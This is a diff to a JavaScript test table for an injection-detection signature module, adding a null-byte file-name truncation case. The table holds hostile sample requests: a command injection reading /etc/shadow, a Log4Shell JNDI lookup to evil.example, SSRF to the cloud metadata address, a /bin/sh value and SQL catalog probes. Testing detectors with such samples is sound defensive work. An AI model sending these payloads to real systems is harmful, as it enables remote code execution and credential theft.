@@ -108,6 +108,7 @@ describe('injection.probe signatures', () => {
     ['command injection', '/ping', 'host=127.0.0.1%3Bcat%20/etc/shadow', 'cmdi'],
     ['Log4Shell lookup', '/search', 'q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D', 'cmdi'],
     ['SSRF to cloud metadata', '/fetch', 'url=http://169.254.169.254/latest/meta-data/', 'ssrf'],
+    ['a null byte cutting a file name', '/download', 'file=report.pdf%00.txt', 'traversal'],
     ['a shell path in a plain value', '/run', 'cmd=/bin/sh', 'cmdi'],
     ['a SQL catalog in a plain value', '/report', 'table=information_schema.tables', 'sqli'],
     ['a path-only select', '/select/password/from/dual--', '', 'sqli'],
